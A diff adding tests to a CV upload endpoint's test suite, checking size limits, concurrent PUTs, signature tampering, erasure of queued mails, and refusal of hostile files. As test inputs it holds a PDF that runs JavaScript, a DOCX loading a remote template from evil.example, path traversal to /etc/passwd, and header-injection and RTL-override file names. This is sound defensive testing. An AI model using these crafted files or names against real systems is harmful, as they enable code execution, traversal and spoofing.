@@ -165,6 +165,41 @@ describe('PUT to the upload address', () => {
     expect(storedFiles()).toEqual(before);
   });
 
+  it('stops 5,242,881 bytes sent to an address for 5,242,880, and refuses an empty body', async () => {
+    const before = storedFiles();
+    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: CV_MAX_BYTES });
+    const { uploadUrl } = (await res.json()) as { uploadUrl: string };
+    // Sent without a length, so the byte count while streaming is what stops it.
+    const over = await ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfOfSize(CV_MAX_BYTES + 1)) });
+    expect(over.status).toBe(413);
+    const empty = await upload(Buffer.alloc(0), { size: 100 });
+    expect(empty.put.status).toBe(400);
+    expect(storedFiles()).toEqual(before);
+  });
+
+  it('takes one of two PUTs sent at once', async () => {
+    const res = await askUpload({ filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length });
+    const { uploadUrl } = (await res.json()) as { uploadUrl: string };
+    const send = () => ctx.api.request(uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
+    const statuses = (await Promise.all([send(), send()])).map((r) => r.status).sort();
+    expect(statuses).toEqual([204, 409]);
+  });
+
+  it.each([
+    ['RTF saved as .doc', Buffer.from('{\\rtf1\\ansi Curriculum}'), 'cv.doc', CV_TYPES[1], 'fileRtf'],
+    ['a PDF that runs JavaScript', Buffer.from(pdfFile().toString('latin1').replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>'), 'latin1'), 'cv.pdf', PDF, 'fileMacro'],
+    ['a DOCX that loads a remote template', docxFile({ extra: [{ name: 'word/_rels/settings.xml.rels', data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>' }] }), 'cv.docx', DOCX, 'fileMacro'],
+  ])('refuses %s with its own message', async (_name, bytes, filename, mimetype, message) => {
+    const { put } = await upload(bytes, { filename, mimetype });
+    expect(put.status).toBe(422);
+    expect(((await put.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe(message);
+  });
+
+  it('accepts a DOCX with links to web pages', async () => {
+    const linked = docxFile({ extra: [{ name: 'word/_rels/document.xml.rels', data: '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.linkedin.com/in/someone" TargetMode="External"/></Relationships>' }] });
+    expect((await upload(linked, { filename: 'cv.docx', mimetype: DOCX })).put.status).toBe(204);
+  });
+
   it('refuses fewer bytes than announced, another type, and a wrong Content-Length', async () => {
     const short = await upload(pdfFile(), { size: pdfFile().length + 10 });
     expect(short.put.status).toBe(400);
@@ -190,6 +225,8 @@ describe('PUT to the upload address', () => {
       const tampered = await ctx.api.request(address, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
       expect(tampered.status, address).toBe(403);
     }
+    const malformed = await ctx.api.request(`${url.pathname}?expires=${url.searchParams.get('expires')}&sig=${encodeURIComponent('é'.repeat(43))}`, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
+    expect(malformed.status).toBe(422);
 
     const old = await requestUpload(ctx.database.db, { file: { filename: 'cv.pdf', mimetype: PDF, size: pdfFile().length }, email: 'ana@example.com', info: '', locale: 'en' }, { ip: freshIp(), now: new Date(Date.now() - 16 * 60_000) });
     const expired = await ctx.api.request(old.uploadUrl, { method: 'PUT', headers: { 'content-type': PDF }, body: new Uint8Array(pdfFile()) });
@@ -198,7 +235,13 @@ describe('PUT to the upload address', () => {
   });
 
   it('makes hostile file names safe', async () => {
-    const names = ['../../etc/passwd.pdf', 'cv\u0000.exe.pdf', 'invoice\u202Efdp.exe.pdf', 'cv\r\nContent-Type: text/html.pdf', `${'ñ'.repeat(300)}.pdf`];
+    // NUL cannot be stored by PostgreSQL and no real file name has one: refused with the field.
+    for (const filename of ['cv\u0000.exe.pdf', 'cv.pdf\u0000']) {
+      const res = await askUpload({ filename, mimetype: PDF, size: 100 });
+      expect(res.status).toBe(422);
+      expect(((await res.json()) as { errors: { message: string }[] }).errors[0]!.message).toBe('invalidCharacters');
+    }
+    const names = ['../../etc/passwd.pdf', 'cv.p\u202Edf', 'invoice\u202Efdp.exe.pdf', 'cv\r\nContent-Type: text/html.pdf', 'cv\u0001\u001b[31m.pdf', `${'ñ'.repeat(300)}.pdf`];
     for (const filename of names) {
       const { target, put } = await upload(pdfFile(), { filename });
       expect(put.status).toBe(204);
@@ -320,7 +363,10 @@ describe('after a submission', () => {
     const { target } = await upload(pdfFile(), { email: 'erase@example.com' });
     expect((await sendForm(application(target.fileId, { email: 'erase@example.com' }))).status).toBe(200);
     const [row] = await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId));
-    await eraseLead(ctx.database.db, row!.leadId!);
+    const mailsOf = async () => (await ctx.database.query(`select id from pgboss.job where name = 'mail-send' and singleton_key like $1`, [`application-%:${row!.leadId}`])).rows;
+    expect(await mailsOf()).toHaveLength(2);
+    await eraseLead(ctx.database.db, new Queue(ctx.database, { work: false }), row!.leadId!);
+    expect(await mailsOf()).toEqual([]);
     expect(await ctx.database.db.select().from(leads).where(eq(leads.email, 'erase@example.com'))).toEqual([]);
     expect(await ctx.database.db.select().from(uploads).where(eq(uploads.id, target.fileId))).toEqual([]);
     expect(storedFiles()).not.toContain(path.join(uploadsDir(), row!.storageKey));
